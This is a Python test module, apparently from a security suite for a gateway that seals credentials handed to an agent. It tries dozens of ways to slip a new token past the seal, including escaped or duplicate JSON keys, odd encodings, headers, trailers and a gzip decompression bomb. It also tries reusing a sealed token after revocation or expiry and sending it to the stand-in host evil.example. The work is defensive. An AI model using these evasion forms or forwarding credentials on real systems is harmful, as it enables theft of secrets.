"""New credentials in replies that a rule seals: given out otherwise than the rule has it; and the tokens that stand for sealed ones, in other hands, in other places and after their time."""

import gzip
import json
import re

from .place import unframed
from .reflections import CHUNKED, brotli, chunks, pieces, reply, unpacked
from .technique import Attempt

G = "seal"


def minting(place, name, make):
    """A path at which a service gives out a credential, and that one."""
    # Not above: who only wants to know which techniques there are has no program to hunt in.
    from house import canary

    path, value = f"/v1/seal/{name}", canary("minted").encode()
    place.values = [*place.values, value]
    place.upstream.replies[path] = lambda _: pieces(make(value))
    return path, value


def minted(name, what, make, read=lambda got: got, again=None, **options):
    """`make` gives the pieces of the reply with a new credential. What the program then asks at `again` is part of what it gets."""

    def act(place):
        path, value = minting(place, name, make)
        got = read(place.ask(path, method="POST", **options))
        if again:
            place.upstream.replies["/v1/public/again"] = lambda _: pieces(again(value))
            got += place.ask("/v1/public/again")
        place.tokens = [*place.tokens, *re.findall(rb'"token": ?"([^"]+)"', got)]
        return got

    Attempt(G, name, what, act)


def document(value, *more, name=b"token"):
    return b"{" + b",".join([b'"%s":"%s"' % (name, value), b'"expires_in":3600', *more]) + b"}"


def said(body, *fields, status="201 Created", kind="application/json"):
    return reply(body, *fields, status=status, kind=kind)


def half(text):
    """A document in which the value is written as escapes."""
    return "".join(f"\\u{byte:04x}" for byte in text).encode()


# In other words than the rule has it
minted("plain", "where the rule has it", lambda value: said(document(value)))
minted("twice", "twice, under one name", lambda value: said(document(value, b'"token":"another-one-that-is-nothing"')))
minted("twice-escaped", "twice, the second name written with an escape", lambda value: said(document(b"another-one-that-is-nothing", b'"\\u0074oken":"%s"' % value)))
minted("twice-objects", "in two objects of one name", lambda value: said(b'{"a":{"token":"%s"},' % value + document(b"another-one-that-is-nothing", b'"a":1')[1:]))
minted("copy", "once more under a name that the rule has not", lambda value: said(document(value, b'"copy":["use %s"]' % value)))
minted("copy-escaped", "once more, every character by its number", lambda value: said(document(value, b'"copy":"%s"' % half(value))),
       read=lambda got: got + re.sub(rb"\\u00(..)", lambda found: bytes([int(found[1], 16)]), unframed(got)))
minted("copy-name", "once more, as a name", lambda value: said(document(value, b'"%s":1' % value)))
minted("undeclared", "beside the one that the rule names, a refresh token", lambda value: said(document(b"another-one-that-is-nothing", b'"refresh_token":"%s"' % value)))
minted("undeclared-camel", "the same as some clouds call it, deep inside", lambda value: said(document(b"another-one-that-is-nothing", b'"a":[{"refreshToken":"%s"}]' % value)))
minted("elsewhere", "in another place than the rule has", lambda value: said(b'{"data":' + document(value) + b"}"))
minted("list", "in a list", lambda value: said(b'{"token":["%s"],"expires_in":1}' % value))
minted("empty", "beside an empty text where the rule has it", lambda value: said(document(b"", b'"access_token":"%s"' % value)))
minted("expiry", "with a time that is none", lambda value: said(b'{"token":"%s","expires_in":"soon"}' % value))
minted("expiry-twice", "with two times", lambda value: said(document(value, b'"expires_in":1')))
minted("form", "as a form", lambda value: said(b"token=" + value + b"&expires_in=3600", kind="application/x-www-form-urlencoded"))
minted("xml", "as XML", lambda value: said(b"<Credentials><SessionToken>" + value + b"</SessionToken></Credentials>", kind="text/xml"))
minted("script", "as a script", lambda value: said(b"cb(" + document(value) + b")", kind="application/javascript"))
minted("page", "as a page", lambda value: said(document(value), kind="text/html"))
minted("untyped", "with no type at all", lambda value: said(document(value)).replace(b"Content-Type: application/json\r\n", b""))
minted("documents", "in the second of two documents", lambda value: said(document(b"another-one-that-is-nothing") + b"\n" + document(value)))
minted("behind", "behind the document's end", lambda value: said(document(b"another-one-that-is-nothing") + value))
minted("comment", "in a comment, which some readers take", lambda value: said(document(b"another-one-that-is-nothing") + b"/* " + value + b" */"))
minted("utf-16", "in UTF-16", lambda value: said(document(value).decode().encode("utf-16")), read=lambda got: got + got.replace(b"\0", b""))
minted("deep", "below a thousand lists", lambda value: said(b'{"a":' + b"[" * 1000 + b'"%s"' % value + b"]" * 1000 + b"," + document(b"another-one-that-is-nothing")[1:]))
minted("long", "before two megabytes", lambda value: said(document(value, b'"more":"' + b"x" * (2 << 20) + b'"')))

# In other parts of a reply
minted("field", "in a field, too", lambda value: said(document(value), f"X-Token: {value.decode()}"))
minted("cookie", "in a cookie, too", lambda value: said(document(value), f"Set-Cookie: session={value.decode()}; HttpOnly"))
minted("trailer", "in a trailer, too", lambda value: [CHUNKED.replace(b"text/plain", b"application/json"), *chunks(document(value))[:-1], b"0\r\nX-Token: " + value + b"\r\n\r\n"])
minted("redirect", "in a redirect's fragment", lambda value: said(b"", f"Location: https://app.example/#access_token={value.decode()}", status="302 Found"))
minted("redirect-body", "in a redirect's body", lambda value: said(document(value), "Location: /", status="303 See Other"))
minted("nothing", "in a field of a reply without a body", lambda value: [b"HTTP/1.1 204 No Content\r\nX-Token: " + value + b"\r\n\r\n"])
minted("hints", "in early hints before the reply", lambda value: [b"HTTP/1.1 103 Early Hints\r\nLink: </" + value + b">\r\n\r\n" + said(document(value))])
minted("part", "in a part of the document", lambda value: said(document(value), "Content-Range: bytes 0-99/100", status="206 Partial Content"))
minted("error", "in an error's document, where the rule has it", lambda value: said(document(value), status="400 Bad Request"))
minted("error-within", "in an error's document, in a list where the rule has a text", lambda value: said(b'{"token":["%s"]}' % value, status="422 Unprocessable"))
minted("error-elsewhere", "in an error's document, as what OAuth calls it", lambda value: said(b'{"error":"slow_down","access_token":"%s"}' % value, status="400 Bad Request"))
minted("error-untyped", "in an error's document that says it is text", lambda value: said(document(value), status="500 Internal Server Error", kind="text/plain"))

# Packed, and in pieces
minted("gzip", "packed by gzip", lambda value: said(gzip.compress(document(value)), "Content-Encoding: gzip"), read=unpacked)
minted("brotli", "packed by brotli", lambda value: said(brotli(document(value)), "Content-Encoding: br"))
minted("gzip-inside", "packed twice, and said so once", lambda value: said(gzip.compress(gzip.compress(document(value))), "Content-Encoding: gzip"), read=unpacked)
minted("gzip-cut", "packed, and cut", lambda value: said(gzip.compress(document(value), 0)[:-9], "Content-Encoding: gzip"), read=unpacked)
minted("bomb", "before a gigabyte that is packed into some bytes", lambda value: said(
    gzip.compress(document(value)[:-1] + b',"more":"') + gzip.compress(b"x" * (1 << 20)) * 64 + gzip.compress(b'"}'), "Content-Encoding: gzip"), read=lambda got: unpacked(got[:1 << 16]))
minted("chunks", "a byte in each chunk", lambda value: [CHUNKED.replace(b"text/plain", b"application/json"), b"".join(chunks(*(bytes([byte]) for byte in document(value))))], read=unframed)
minted("cut", "in a document that breaks off", lambda value: [said(document(value, b'"more":"' + b"x" * 900))[:-500], 0.1, None])
minted("slow", "in a document that stops before its end for a while", lambda value: [said(document(value))[:-2], 1.0, b"0}"])

# What it answers later, whatever became of the first
minted("later", "and once more in what it answers later", lambda value: said(document(value)), again=reply)

# What stands for a sealed one
def used(name, what, ask, seconds=3600):
    """`ask` sends what the program got for a credential; it counts where that reaches the service."""

    def act(place):
        path, value = minting(place, f"use-{name}", lambda value: said(json.dumps({"token": value.decode(), "expires_in": seconds}).encode()))
        found = re.search(rb'"token": ?"([^"]+)"', place.ask(path, method="POST"))
        place.upstream.settle()
        place.upstream.forget()
        got = ask(place, found[1].decode() if found else "")
        place.upstream.settle()
        if any(value in connection.raw for connection in place.upstream.connections):
            place.faults.add("sealed")
        return got

    Attempt(G, f"use-{name}", what, act)


def after(change):
    def ask(place, token):
        place.changes[change]()
        return place.ask("/v1/minted", token=token)

    return ask


used("host", "the new token to another host", lambda place, token: place.ask("/v1/minted", token=token, to="evil.example:<port>", host="evil.example:<port>", sni="evil.example"))
used("path", "the new token where only the first one may go", lambda place, token: place.ask("/v1/public/x", token=token))
used("place", "the new token in a query", lambda place, token: place.ask(f"/v1/minted?key={token}", token="none"))
used("field", "the new token in another field", lambda place, token: place.ask("/v1/minted", f"X-Key: {token}", token="none"))
used("run", "the new token in another run of the agent", lambda place, token: place.ask("/v1/minted", token=token, door=place.doors["second"]))
used("agent", "the new token in another agent's run", lambda place, token: place.ask("/v1/minted", token=token, door=place.doors["other"]))
used("again", "the new token, to get one more", lambda place, token: place.ask("/v1/seal/use-again", token=token, method="POST"))
used("revoked", "the new token after a person revoked it", after("sealed token"))
used("deleted", "the new token after a person deleted its secret", after("sealed secret"))


used("expired", "the new token after its time", after("sealed expiry"), seconds=1)


def unstored(place):
    """A person deletes the secret while the service answers."""

    def made(value):
        place.changes["sealed secret"]()
        return said(document(value))

    path, _ = minting(place, "unstored", made)
    return place.ask(path, method="POST")


Attempt(G, "unstored", "in a reply that nobody can store any more", unstored)
